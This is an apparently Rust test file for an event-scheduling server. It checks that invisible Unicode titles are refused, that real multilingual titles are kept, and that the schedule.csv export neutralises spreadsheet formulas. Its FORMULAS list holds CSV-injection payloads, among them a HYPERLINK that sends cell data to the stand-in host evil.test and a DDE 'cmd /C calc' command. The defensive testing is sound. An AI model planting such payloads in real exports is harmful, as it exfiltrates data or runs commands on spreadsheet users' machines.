//! Texts that lie on the wall, and exports that run in a spreadsheet,
//! through the real server: a title that shows nothing makes a taken cell
//! look free, so each invisible title is refused (`invalid`, with what to
//! fix) on the socket and through the no-JS form alike, while real titles in
//! every script keep passing; and `schedule.csv` neutralises cells that a
//! spreadsheet would run as formulas, live and in the archive.

use serde_json::Value;

use crate::kit::*;

/// Titles that render as nothing, as an attacker types them.
const INVISIBLE: [(&str, &str); 12] = [
    ("zero-width space", "\u{200B}"),
    ("zero-width joiners", "\u{200D}\u{200C}\u{200D}"),
    ("word joiner", "\u{2060}"),
    ("byte-order mark", "\u{FEFF}"),
    ("only combining marks", "\u{0301}\u{0302}\u{0303}"),
    ("variation selector", "\u{FE0F}"),
    ("tag characters", "\u{E0041}\u{E0042}"),
    ("Hangul filler", "\u{3164}"),
    ("Hangul choseong and jungseong fillers", "\u{115F}\u{1160}"),
    ("halfwidth Hangul filler", "\u{FFA0}"),
    ("braille blank", "\u{2800}"),
    ("bidi marks", "\u{200E}\u{200F}"),
];

/// Real titles: accents, emoji with joiners, flags, homoglyphs, CJK, Arabic.
const REAL: [&str; 6] = [
    "Crêpes & naïveté",
    "👩‍💻 pair programming 🇫🇷",
    "Раураl is not PayPal",
    "Rust 入門",
    "مرحبا بالعالم",
    "Scotland 🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}",
];

/// The cells of the test camp, one per accepted claim.
const CELLS: [(&str, &str); 12] = [
    ("sat-0930", "amphi"),
    ("sat-0930", "brehat"),
    ("sat-0930", "sein"),
    ("sat-0930", "ouessant"),
    ("sat-1030", "amphi"),
    ("sat-1030", "brehat"),
    ("sat-1030", "sein"),
    ("sat-1030", "ouessant"),
    ("sat-1130", "amphi"),
    ("sat-1130", "brehat"),
    ("sat-1130", "sein"),
    ("sat-1130", "ouessant"),
];

/// Escapes like maud, to find a text in a page.
fn escaped(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// The `data-code` of a page's notice.
fn notice_code(page: &str) -> Option<String> {
    let at = page.find("id=\"notice\"")?;
    let rest = &page[at..page[at..].find('>').map(|e| at + e).unwrap_or(page.len())];
    let d = rest.find("data-code=\"")?;
    let v = &rest[d + 11..];
    Some(v[..v.find('"')?].to_owned())
}

/// Claims through the no-JS form as a new browser; the page it lands on.
async fn form_claim(camp: &TestServer, cell: (&str, &str), title: &str, host: &str) -> Got {
    let mut b = NoJs::new();
    b.get(camp, "/e/camp").await;
    b.submit(
        camp,
        "/e/camp/claim",
        &[
            ("slot", cell.0),
            ("room", cell.1),
            ("title", title),
            ("host", host),
            ("req", "f-text-1"),
        ],
    )
    .await
}

async fn sessions(camp: &TestServer) -> Vec<Value> {
    get_json(camp, "/e/camp/board.json").await["sessions"]
        .as_array()
        .unwrap()
        .clone()
}

#[tokio::test]
async fn invisible_titles_and_hosts_are_refused_on_the_socket_and_the_form() {
    let camp = TestServer::start().await;
    for (what, title) in INVISIBLE {
        // A socket each: refused commands spend the connection's budget too.
        let mut socket = camp.participant().await;
        let answer = socket
            .command(Cmd::claim("sat-0930", "amphi", title, "Maël"))
            .await;
        answer.expect_reject("invalid");
        let message = answer.raw()["message"].as_str().unwrap().to_owned();
        assert!(message.starts_with("title "), "{what}: {message}");
        assert!(
            message.contains("visible") || message.contains("remove it"),
            "{what}: the message says what to fix: {message}"
        );
        socket
            .command(Cmd::claim("sat-0930", "amphi", "Real title", title))
            .await
            .expect_reject("invalid");

        let page = form_claim(&camp, ("sat-0930", "amphi"), title, "Maël").await;
        assert_eq!(page.status, 200, "{what}");
        assert_eq!(
            notice_code(&page.body).as_deref(),
            Some("invalid"),
            "{what}"
        );
        assert!(
            page.body.contains(&escaped(&message)),
            "{what}: the page says {message:?}"
        );
    }
    // One-line fields refuse line and paragraph separators.
    let mut socket = camp.participant().await;
    for sep in ["\u{2028}", "\u{2029}"] {
        let title = format!("Two{sep}lines");
        let answer = socket
            .command(Cmd::claim("sat-0930", "amphi", &title, "Maël"))
            .await;
        answer.expect_reject("invalid");
        assert!(
            answer.raw()["message"]
                .as_str()
                .unwrap()
                .contains("one line")
        );
        let tags = Cmd::claim("sat-0930", "amphi", "Tagged", "Maël")
            .with("tags", vec![format!("rust{sep}web")]);
        socket.command(tags).await.expect_reject("invalid");
    }
    assert!(sessions(&camp).await.is_empty(), "nothing was claimed");
}

#[tokio::test]
async fn real_titles_in_every_script_are_kept_as_typed() {
    let camp = TestServer::start().await;
    let mut cells = CELLS.iter().copied();
    for title in REAL {
        // A fresh participant each: one person's cap is not what is tested.
        let mut phone = camp.participant().await;
        let (slot, room) = cells.next().unwrap();
        phone.claim_ok(slot, room, title).await;
        let page = form_claim(&camp, cells.next().unwrap(), title, "Zoë 👩‍🔬").await;
        assert_eq!(notice_code(&page.body).as_deref(), Some("ack"), "{title}");
        assert!(page.body.contains(&escaped(title)), "{title}");
    }
    let got = sessions(&camp).await;
    for title in REAL {
        let n = got.iter().filter(|s| s["title"] == title).count();
        assert_eq!(n, 2, "{title} kept byte for byte, once per route");
    }
}

/// A spreadsheet runs a cell that starts with one of these.
const FORMULAS: [&str; 5] = [
    "=HYPERLINK(\"http://evil.test/?\"&A1,\"Slides\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1 for Rust",
    "-2+3",
    "=1+1",
];

fn csv_cells(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    reader
        .records()
        .map(|r| r.expect("a CSV row").iter().map(str::to_owned).collect())
        .collect()
}

/// No cell of the CSV starts like a formula, and each formula-like text is
/// there behind a single quote, in a quoted cell.
#[track_caller]
fn assert_neutralised(text: &str) {
    for row in csv_cells(text) {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?} in {text}"
            );
        }
    }
    for formula in FORMULAS {
        let cell = format!("\"'{}\"", formula.replace('"', "\"\""));
        assert!(text.contains(&cell), "{cell} in {text}");
    }
}

#[tokio::test]
async fn schedule_csv_neutralises_formulas_live_and_in_the_archive() {
    let camp = TestServer::start().await;
    let mut cells = CELLS.iter().copied();
    for title in FORMULAS {
        let mut phone = camp.participant().await;
        let (slot, room) = cells.next().unwrap();
        phone.claim_ok(slot, room, title).await;
    }
    let mut phone = camp.participant().await;
    let (slot, room) = cells.next().unwrap();
    let id = phone.claim_ok(slot, room, "Plain title").await;
    phone
        .command(Cmd::edit(&id).host("@attacker").tags(&["-x", "ok"]))
        .await
        .expect_ack();

    let live = get(&camp, "/e/camp/schedule.csv").await;
    assert_eq!(live.status(), 200);
    let live = live.text().await.unwrap();
    assert_neutralised(&live);
    assert!(live.contains(",\"'@attacker\","), "{live}");
    assert!(live.contains(",\"'-x, ok\","), "{live}");
    let plain = csv_cells(&live)
        .into_iter()
        .find(|r| r[5] == "Plain title")
        .expect("the plain row");
    assert_eq!(plain[6], "'@attacker");

    // The organiser ends the event; its archive holds the same CSV.
    let mut org = camp.organiser().await;
    org.command(Cmd::end()).await.expect_ack();
    let archived = wait_for("the archived schedule.csv", PATIENCE, || async {
        let r = get(&camp, "/archive/camp/schedule.csv").await;
        if r.status() == 200 {
            Some(r.text().await.unwrap())
        } else {
            None
        }
    })
    .await;
    assert_neutralised(&archived);
    assert_eq!(archived, live, "the archive writes through the same export");
}
